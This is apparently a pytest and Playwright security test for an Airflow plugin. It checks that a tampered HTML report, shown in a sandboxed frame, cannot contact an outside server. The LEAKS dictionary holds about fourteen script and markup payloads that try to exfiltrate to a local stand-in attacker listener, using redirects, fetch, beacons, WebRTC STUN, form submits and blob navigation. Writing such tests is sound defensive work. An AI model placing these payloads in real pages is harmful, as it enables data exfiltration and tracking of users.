"""What somebody has put in the place of a report, in a real browser: nothing of it reaches their server."""

import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socketserver import BaseRequestHandler, UDPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, expect

from orchard.lake.layout import Lake
from orchard.lake.storage_files import FileStorage
from orchard.report.stored import store_report
from tests.support.airflow.shown_orchard import SECONDS, Shown
from tests.support.polling import wait_for

CONNECTED = ("connected", "packet")
"""Of a page that Airflow itself has stored no more than this gets out: nothing of what it says."""


HAS_TRIED = "document.documentElement.dataset.tried || !['', 'about:srcdoc'].includes(location.href)"
"""Asked of the page itself: on a busy machine Playwright may have missed that it has left."""


def leak(how: str) -> str:
    """Return a page that tries to tell somebody, says so, and is still there a little later."""
    after = "setTimeout(() => document.documentElement.dataset.tried = 1, 300)"
    return f"<!doctype html><body><p id=p>No report</p><script>{after}; try {{ {how} }} catch {{}}</script>"


LEAKS = {
    "goes elsewhere": leak("location = '@'"),
    "goes elsewhere later": leak("setTimeout(() => { location = '@' })"),
    "refreshes": "<!doctype html><meta http-equiv=refresh content='0;url=@'>" + leak(""),
    "follows a link": leak("p.innerHTML = '<a id=a href=@ ping=@>x</a>'; a.click()"),
    "leads Airflow's window elsewhere": leak("top.location = '@'"),
    "leads its frame elsewhere": leak("parent.location = '@'"),
    "opens a window": leak("open('@'); p.innerHTML = '<a id=a target=_blank href=@>x</a>'; a.click()"),
    "fetches": leak("fetch('@', {mode: 'no-cors'}); navigator.sendBeacon('@', 1); new EventSource('@')"),
    "shows what is elsewhere": leak(
        "p.innerHTML = '<img src=@><iframe src=@></iframe><embed src=@><video src=@></video>"
        "<link rel=stylesheet href=@><link rel=prefetch href=@><style>p {background: url(@)}</style>'"
    ),
    "connects ahead": leak("p.innerHTML = '<link rel=preconnect href=@><link rel=dns-prefetch href=@>'"),
    "connects ahead at once": "<!doctype html><link rel=preconnect href='@'>" + leak(""),
    "asks for a peer": leak(
        "let urls = 'stun:' + new URL('@').host; let peer = new RTCPeerConnection({iceServers: [{urls}]});"
        "peer.createDataChannel('a'); peer.createOffer().then(offer => peer.setLocalDescription(offer))"
    ),
    "submits a form": leak("p.innerHTML = '<form id=f action=@><input name=a></form>'; f.submit()"),
    "has a document of its own": leak(
        "let page = new Blob(['<script>location = `@`</' + 'script>'], {type: 'text/html'});"
        "location = URL.createObjectURL(page)"
    ),
}


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that somebody else has: its address, and who has connected to it or sent it a packet."""
    asked: list[str] = []

    class Server(ThreadingHTTPServer):
        def verify_request(self, request: Any, client_address: Any) -> bool:
            asked.append("connected")
            return super().verify_request(request, client_address)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            pass

    class Packet(BaseRequestHandler):
        def handle(self) -> None:
            asked.append("packet")

    # TCP first: its ports are those that others have taken.
    with Server(("127.0.0.1", 0), Handler) as server, UDPServer(server.server_address, Packet) as packets:
        for each in (packets, server):
            threading.Thread(target=each.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        for each in (packets, server):
            each.shutdown()


@pytest.mark.parametrize("how", LEAKS)
@pytest.mark.parametrize(
    "opened", ["/", "/orchard/runs/older/framed.html"], ids=["in Airflow", "without the page around it"]
)
def test_nothing_that_is_put_in_the_place_of_a_report_gets_out(
    browser: Browser, shown: Shown, signed_in: Any, listener: tuple[str, list[str]], how: str, opened: str
) -> None:
    address, asked = listener
    place = shown.lake / "runs" / "older" / "report.html"
    report = place.read_bytes()
    place_report(shown.lake, LEAKS[how].replace("@", address).encode())
    context = browser.new_context(storage_state=signed_in)
    try:
        page = context.new_page()
        page.goto(shown.url(opened))
        if opened == "/":
            page.get_by_role("link", name="Orchard", exact=True).click(timeout=SECONDS)
            rows = page.frame_locator("iframe[title=Orchard]").locator("tbody tr")
            rows.filter(has_text="older").get_by_role("link", name="report").click()
            # Airflow's own address says what its frame shows: the page around the report.
            opened = "/plugin/orchard/orchard/runs/older/report.html"

        def has_tried() -> bool:
            page.evaluate("0")  # only while it is asked something, Playwright hears of frames
            inside = (frame for frame in page.frames if frame.parent_frame is not None)
            reports = (frame for frame in inside if frame.parent_frame.url.endswith("/framed.html"))
            inner = next(reports, None)
            if inner is None:
                return False
            with suppress(Error):  # it is about to leave
                return bool(inner.evaluate(HAS_TRIED))
            return False

        wait_for(has_tried, "the page to have tried")
        assert not [each for each in asked if each not in CONNECTED]
        expect(page).to_have_url(shown.url(opened))
        assert len(context.pages) == 1
    finally:
        context.close()
        place_report(shown.lake, report)


def test_what_a_node_puts_in_the_place_of_a_report_reaches_nobody(
    browser: Browser, shown: Shown, signed_in: Any, listener: tuple[str, list[str]]
) -> None:
    """Not even by the connection that a browser opens for a page before its policy refuses it."""
    address, asked = listener
    place = shown.lake / "runs" / "older" / "report.html"
    report = place.read_bytes()
    context = browser.new_context(storage_state=signed_in)
    try:
        page = context.new_page()
        for leak in LEAKS.values():
            place.write_text(leak.replace("@", address))
            page.goto(shown.url("/orchard/runs/older/report.html"))
            expect(page.get_by_text("is not as the task 'report' wrote it")).to_be_visible()
        assert asked == []
    finally:
        context.close()
        place.write_bytes(report)


def place_report(lake: Path, page: bytes) -> None:
    """Store a page as Airflow does: should Airflow itself be made to write one, the frame keeps it."""
    store_report(FileStorage(lake), Lake(f"file://{lake}"), "older", page)
